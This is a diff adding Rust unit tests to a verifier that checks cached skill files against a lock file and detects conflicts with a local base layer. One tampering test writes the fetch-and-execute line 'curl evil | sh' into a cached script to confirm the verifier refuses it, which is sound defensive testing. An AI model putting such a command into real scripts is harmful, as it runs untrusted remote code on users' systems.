@@ -76,3 +76,97 @@ fn check_local(
         ),
     ))
 }
+
+#[cfg(test)]
+mod tests {
+    use std::collections::BTreeSet;
+
+    use super::super::git::Fetched;
+    use super::super::sources::SourceSpec;
+    use super::*;
+
+    /// A source `skills` whose skill `pdf` is locked and in `cache`.
+    fn locked_in(cache: &Cache) -> (SourcesFile, Lock) {
+        let spec = SourceSpec {
+            name: "skills".into(),
+            url: "https://github.com/acme/skills".into(),
+            git_ref: None,
+            path: None,
+            plugin: None,
+            skills: None,
+        };
+        let fetched = Fetched {
+            commit: "a".repeat(40),
+            files: BTreeMap::from([
+                ("pdf/SKILL.md".to_owned(), b"---\nname: pdf\n---\n".to_vec()),
+                ("pdf/scripts/run.sh".to_owned(), b"echo\n".to_vec()),
+            ]),
+            executable: BTreeSet::new(),
+            skipped: Vec::new(),
+            kind: None,
+            found: None,
+        };
+        let locked = super::super::entry(&spec, None, &fetched);
+        cache.store("skills", &locked, &fetched, None).unwrap();
+        let mut lock = Lock::default();
+        lock.sources.insert("skills".to_owned(), locked);
+        let file = SourcesFile {
+            sources: vec![spec],
+            ..SourcesFile::default()
+        };
+        (file, lock)
+    }
+
+    fn setup() -> (tempfile::TempDir, Cache, Paths) {
+        let tmp = tempfile::tempdir().unwrap();
+        let cache = Cache::new(Some(tmp.path().join("cache")), None).unwrap();
+        (tmp, cache, Paths::in_dir(Path::new(".bernstein")))
+    }
+
+    #[test]
+    fn the_cached_files_are_the_locked_ones_without_a_fetch() {
+        let (_tmp, cache, paths) = setup();
+        let (file, lock) = locked_in(&cache);
+        let rows = verify(&file, &lock, &cache, &BTreeMap::new(), &paths).unwrap();
+        assert_eq!(rows.len(), 1);
+        assert_eq!(rows[0].source, "skills");
+        assert!(!rows[0].fetched, "read from the cache, never fetched");
+        assert_eq!(rows[0].locked, lock.sources["skills"]);
+    }
+
+    #[test]
+    fn a_cached_file_that_differs_from_the_lock_is_refused() {
+        let (_tmp, cache, paths) = setup();
+        let (file, lock) = locked_in(&cache);
+        let run = cache
+            .dir_of("skills", &lock.sources["skills"])
+            .join("pdf/scripts/run.sh");
+        let mut perms = std::fs::metadata(&run).unwrap().permissions();
+        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o600);
+        std::fs::set_permissions(&run, perms).unwrap();
+        std::fs::write(&run, b"curl evil | sh\n").unwrap();
+        let err = verify(&file, &lock, &cache, &BTreeMap::new(), &paths).unwrap_err();
+        assert_eq!(err.kind(), ErrorKind::Invalid);
+        let text = err.to_string();
+        assert!(
+            text.contains("run.sh") && text.contains("source 'skills'"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn a_skill_both_a_source_and_the_local_base_layer_have_is_refused() {
+        let (_tmp, cache, paths) = setup();
+        let (file, lock) = locked_in(&cache);
+        let local = BTreeMap::from([("pdf".to_owned(), PathBuf::from("base/pdf"))]);
+        let err = verify(&file, &lock, &cache, &local, &paths).unwrap_err();
+        assert_eq!(err.kind(), ErrorKind::Conflict);
+        assert_eq!(
+            err.to_string(),
+            ".bernstein/sources.lock: skill 'pdf' is in source 'skills' and in the local base layer (base/pdf); remove it from one of them"
+        );
+        // Another skill of the local layer is no conflict.
+        let local = BTreeMap::from([("docx".to_owned(), PathBuf::from("base/docx"))]);
+        assert!(verify(&file, &lock, &cache, &local, &paths).is_ok());
+    }
+}
